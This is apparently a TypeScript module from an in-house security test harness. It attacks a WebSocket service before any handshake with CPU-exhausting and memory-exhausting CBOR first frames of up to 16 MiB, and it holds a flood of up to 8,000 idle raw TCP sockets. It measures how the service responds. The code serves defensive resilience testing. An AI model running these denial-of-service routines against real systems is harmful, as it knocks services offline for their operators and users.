/**
 * Attacks before any handshake (issue 17, findings 1 and 8): hostile first frames, and raw TCP
 * sockets that never send a byte. The attacker holds nothing and proves no key.
 */
import { createConnection, type Socket } from "node:net";
import { emptyMapsHello, equalKeysMap } from "./cbor.js";
import { type AttackContext, count } from "./context.js";
import { connect } from "./raw-session.js";

/** Just under the default maxFrameBytes (16 MiB): the largest frame a victim takes in. */
const BIG = 16 * 1024 * 1024 - 1024;
/** The size that froze a victim for 24 s with the pairwise key check. */
const MEDIUM = 720 * 1024;

/**
 * Send `frame` as the first message of a fresh WebSocket and wait for the victim to close it.
 * Returns how long that took (its CPU on our frame, roughly) and the close code.
 */
async function firstFrame(ctx: AttackContext, frame: Uint8Array): Promise<void> {
  const ws = await connect(ctx.endpoint);
  const sent = performance.now();
  const closed = new Promise<string>((resolve) =>
    ws.once("close", (code, reason) => resolve(`${code} ${reason}`)),
  );
  ws.send(frame, { binary: true });
  const outcome = await Promise.race([closed, ctx.stop.then(() => "stopped")]);
  ws.terminate();
  const ms = performance.now() - sent;
  count(ctx.figures, "frames");
  count(ctx.figures, "bytes", frame.byteLength);
  ctx.figures.lastClose = outcome;
  if (ms > Number(ctx.figures.maxCloseMs ?? 0)) ctx.figures.maxCloseMs = Math.round(ms);
}

/** Finding 1: first frames that are maps of equal-length keys, 720 KB and 16 MiB, one at a time. */
export async function preauthCpu(ctx: AttackContext): Promise<void> {
  const frames = [equalKeysMap(MEDIUM), equalKeysMap(BIG)];
  ctx.figures.keys = `${(MEDIUM / 10) | 0} and ${(BIG / 10) | 0} per frame`;
  for (let i = 0; !ctx.stopped(); i++) await firstFrame(ctx, frames[i % 2] as Uint8Array);
}

/**
 * Finding 1: first frames of empty maps (a hello whose versions list holds them), 512 KiB, then
 * twice as big each time up to 16 MiB. Each wire byte decodes to ~200 bytes of heap: one 16 MiB
 * frame took a victim past a 3 GB heap (OOM, a minute of CPU), so the sizes grow and the harness
 * stops the attack once the victim passes its RSS stop line.
 */
export async function preauthMemory(ctx: AttackContext): Promise<void> {
  for (let size = 512 * 1024; !ctx.stopped(); size = Math.min(BIG, size * 2)) {
    ctx.figures.lastFrameBytes = size;
    await firstFrame(ctx, emptyMapsHello(size));
  }
}

/** At most this many sockets, so the attacker stays under its own descriptor limit. */
const MAX_SOCKETS = 8_000;

/**
 * Finding 8: raw TCP connections to the victim's port that send nothing, 50 every 50 ms up to
 * MAX_SOCKETS. Counts those the victim closes, and how long each lived first.
 */
export async function rawSockets(ctx: AttackContext): Promise<void> {
  const { hostname, port } = new URL(ctx.endpoint);
  const sockets = new Set<Socket>();
  const opened = new Map<Socket, number>();
  const figures = ctx.figures;
  figures.opened = 0;
  figures.closedByVictim = 0;
  figures.errors = 0;
  let longestLived = 0;
  const open = () => {
    const socket = createConnection({ host: hostname, port: Number(port) });
    sockets.add(socket);
    socket.on("connect", () => {
      opened.set(socket, performance.now());
      count(figures, "opened");
    });
    socket.on("error", () => count(figures, "errors"));
    socket.on("close", () => {
      sockets.delete(socket);
      const at = opened.get(socket);
      if (at === undefined || ctx.stopped()) return;
      count(figures, "closedByVictim");
      longestLived = Math.max(longestLived, performance.now() - at);
      figures.longestLivedBeforeCloseMs = Math.round(longestLived);
    });
  };
  while (!ctx.stopped()) {
    for (let i = 0; i < 50 && sockets.size < MAX_SOCKETS; i++) open();
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  // Sockets still open at the end, and the age of the oldest: idle connections the victim kept.
  const now = performance.now();
  let oldest = 0;
  let stillOpen = 0;
  for (const socket of sockets) {
    const at = opened.get(socket);
    if (at === undefined) continue;
    stillOpen++;
    oldest = Math.max(oldest, now - at);
  }
  figures.stillOpen = stillOpen;
  figures.oldestOpenMs = Math.round(oldest);
  for (const socket of sockets) socket.destroy();
}
